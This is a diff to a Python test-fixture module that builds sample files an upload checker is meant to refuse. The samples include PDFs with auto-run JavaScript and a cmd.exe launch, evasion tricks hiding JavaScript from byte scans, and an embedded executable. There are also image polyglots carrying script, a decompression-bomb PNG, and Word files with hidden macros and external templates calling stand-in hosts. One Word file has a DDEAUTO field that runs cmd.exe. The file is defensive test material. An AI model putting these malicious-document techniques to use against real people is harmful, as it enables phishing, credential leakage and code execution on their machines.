@@ -5,9 +5,10 @@ import io
 import os
 import struct
 import zipfile
+import zlib
 from functools import lru_cache
 
-from PIL import Image
+from PIL import ExifTags, Image
 
 MB = 1024 * 1024
 DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
@@ -31,13 +32,19 @@ def make_jpg() -> bytes:
     return out.getvalue()
 
 
-def make_pdf(padding: int = 0) -> bytes:
-    """A minimal valid one-page PDF with a correct cross-reference table; ``padding`` bytes of comment."""
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
+def make_pdf(padding: int = 0, *, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (),
+             comment: bytes = b"") -> bytes:
+    """A minimal valid one-page PDF with a correct cross-reference table; ``padding`` bytes of comment.
+
+    ``catalog`` and ``page``: more entries for the catalog (object 1) and the page (object 3); ``objects``: the
+    bodies of objects 4, 5, ...; ``comment``: a comment line after the header."""
+    objects = [b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]%s >>" % page, *objects]
     out = bytearray(b"%PDF-1.4\n")
     if padding:
         out += b"%" + b"x" * padding + b"\n"
+    if comment:
+        out += b"%" + comment + b"\n"
     offsets = []
     for number, body in enumerate(objects, 1):
         offsets.append(len(out))
@@ -167,3 +174,193 @@ def make_docx_with_photos(photos: int = 3, side: int = 1000) -> bytes:
     out = io.BytesIO()
     document.save(out)
     return out.getvalue()
+
+
+
+# Files that are what they say, and something more: each is refused (claims/filecheck.py).
+
+def pdf_stream(content: bytes, dictionary: bytes = b"", *, compress: bool = True) -> bytes:
+    """The body of a stream object: ``content`` (FlateDecode-compressed unless told) with its dictionary."""
+    packed = zlib.compress(content) if compress else content
+    flate = b" /Filter /FlateDecode" if compress else b""
+    return b"<<%s%s /Length %d >>\nstream\n%s\nendstream" % (dictionary, flate, len(packed), packed)
+
+
+JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
+
+
+def make_pdf_with_text() -> bytes:
+    """A clean PDF whose page text is a compressed (FlateDecode) content stream."""
+    return make_pdf(page=b" /Contents 4 0 R", objects=(pdf_stream(b"BT /F1 12 Tf 20 100 Td (Letter) Tj ET"),))
+
+
+def make_pdf_open_action_js() -> bytes:
+    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(JS_ACTION,))
+
+
+def make_pdf_page_aa_js() -> bytes:
+    """JavaScript run when the page opens (an additional action, /AA), named by the short /JS."""
+    action = b"<< /S /JS /JS (app.launchURL\\('http://evil.example'\\)) >>"
+    return make_pdf(page=b" /AA << /O 4 0 R >>", objects=(action,))
+
+
+def make_pdf_hex_escaped_js() -> bytes:
+    """/JavaScript written /J#61vaScript: the same name to a PDF reader, another to a naive byte search."""
+    action = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
+    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(action,))
+
+
+def make_pdf_launch() -> bytes:
+    action = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"
+    return make_pdf(catalog=b" /OpenAction 4 0 R", objects=(action,))
+
+
+def make_pdf_embedded_file() -> bytes:
+    return make_pdf(catalog=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
+                    objects=(pdf_stream(EXE, b" /Type /EmbeddedFile"),))
+
+
+def make_pdf_js_in_object_stream() -> bytes:
+    """The JavaScript action inside a compressed object stream, where a scan of the raw bytes cannot see it."""
+    object_stream = pdf_stream(b"5 0 " + JS_ACTION, b" /Type /ObjStm /N 1 /First 4")
+    return make_pdf(catalog=b" /OpenAction 5 0 R", objects=(object_stream,))
+
+
+def make_pdf_encrypted() -> bytes:
+    return make_pdf(objects=(b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>",)).replace(
+        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R")
+
+
+def make_pdf_html_polyglot() -> bytes:
+    """A PDF whose first comment is a web page: a PDF to a reader, HTML to a browser."""
+    return make_pdf(comment=b"<html><body><script>alert(document.cookie)</script></body></html>")
+
+
+def eicar() -> bytes:
+    """The EICAR anti-virus test string, assembled here so no scanner flags this source file."""
+    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
+
+
+def make_pdf_with_eicar() -> bytes:
+    return make_pdf(comment=eicar())
+
+
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def add_png_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
+    """The PNG with a chunk added straight after its header chunk (IHDR)."""
+    return png[:33] + _png_chunk(kind, data) + png[33:]
+
+
+def make_png_with_html() -> bytes:
+    """A PNG whose text chunk is a web page: a browser told it is HTML runs the script."""
+    return add_png_chunk(make_png(), b"tEXt", b"Comment\x00" + HTML)
+
+
+def make_png_with_text() -> bytes:
+    return add_png_chunk(make_png(), b"tEXt", b"Author\x00Alex Morgan, 1 Acacia Avenue")
+
+
+@lru_cache(maxsize=None)
+def make_png_flood(side: int = 10_000) -> bytes:
+    """A real ``side`` × ``side`` black-and-white PNG: small on disk, 100 megapixels when opened."""
+    out = io.BytesIO()
+    Image.new("1", (side, side)).save(out, format="PNG")
+    return out.getvalue()
+
+
+def set_jpeg_size(jpeg: bytes, width: int, height: int) -> bytes:
+    """The JPEG with its frame header (SOF0) claiming ``width`` × ``height``."""
+    at = jpeg.find(b"\xff\xc0")
+    return jpeg[:at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9:]
+
+
+def make_jpg_with_gps(orientation: int = 6) -> bytes:
+    """A phone photo: EXIF with the camera, where it was taken (GPS) and its orientation."""
+    exif = Image.Exif()
+    exif[ExifTags.Base.Make] = "PhoneMaker"
+    exif[ExifTags.Base.Orientation] = orientation
+    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (53.0, 28.0, 51.0),
+                                  ExifTags.GPS.GPSLongitudeRef: "W", ExifTags.GPS.GPSLongitude: (2.0, 14.0, 40.0)}
+    out = io.BytesIO()
+    Image.new("RGB", (32, 16), (30, 30, 200)).save(out, format="JPEG", exif=exif, comment=b"Alex's flat")
+    return out.getvalue()
+
+
+def make_jpg_with_html_comment() -> bytes:
+    jpeg = make_jpg()
+    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + jpeg[2:]
+
+
+def make_jpg_zip_polyglot() -> bytes:
+    """A JPEG with a zip appended after its end marker: a picture to a viewer, an archive to an unzipper."""
+    return make_jpg() + make_zip()
+
+
+def make_docx_hidden_macros() -> bytes:
+    """Declared a plain Word document, with a VBA project inside that the content types do not mention."""
+    return make_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA project"})
+
+
+def make_docx_activex() -> bytes:
+    control = ('<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+               'ax:classid="{8BD21D40}"/>')
+    return make_docx(extra={"word/activeX/activeX1.xml": control})
+
+
+def _rels(*relationships: tuple[str, str, str]) -> str:
+    items = "".join(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    f'relationships/{kind}" Target="{target}"{mode}/>'
+                    for n, (kind, target, mode) in enumerate(relationships, 1))
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            f'openxmlformats.org/package/2006/relationships">{items}</Relationships>')
+
+
+EXTERNAL = ' TargetMode="External"'
+
+
+def make_docx_external_template() -> bytes:
+    """Word fetches the attached template from this address when the file opens (and sends the user's credentials)."""
+    return make_docx(extra={
+        "word/settings.xml": '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
+                             'wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://'
+                             'schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>',
+        "word/_rels/settings.xml.rels": _rels(("attachedTemplate", "http://198.51.100.7/template.dotm", EXTERNAL))})
+
+
+def make_docx_external_image() -> bytes:
+    return make_docx(extra={"word/_rels/document.xml.rels": _rels(
+        ("image", "file://198.51.100.7/share/pixel.png", EXTERNAL), ("oleObject", "http://evil.example/x", EXTERNAL))})
+
+
+def make_docx_with_hyperlink() -> bytes:
+    """A link the reader may click: Word never follows it by itself, so it is accepted."""
+    return make_docx(extra={"word/_rels/document.xml.rels": _rels(
+        ("hyperlink", "https://ico.org.uk/", EXTERNAL), ("styles", "styles.xml", ""))})
+
+
+def _word_part(tag: str, body: str) -> str:
+    return (f'<?xml version="1.0" encoding="UTF-8"?><w:{tag} xmlns:w="http://schemas.openxmlformats.org/'
+            f'wordprocessingml/2006/main">{body}</w:{tag}>')
+
+
+def make_docx_include_picture() -> bytes:
+    """A header whose field fetches a picture from a server each time the document opens."""
+    field = '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.7/p.png&quot; \\d "/></w:p>'
+    return make_docx(extra={"word/header1.xml": _word_part("hdr", field)})
+
+
+def make_docx_ddeauto() -> bytes:
+    """A DDEAUTO field that starts a program, its name split over two runs and written in lower case."""
+    runs = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> dde</w:instrText></w:r>'
+            '<w:r><w:instrText>auto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    return make_docx(extra={"word/footer1.xml": _word_part("ftr", runs)})
+
+
+def make_docx_with_hyperlink_field() -> bytes:
+    """A HYPERLINK field whose address holds the words link and import: a link, accepted."""
+    field = '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.org/link/import&quot; "/></w:p>'
+    return make_docx(extra={"word/footer1.xml": _word_part("ftr", field)})
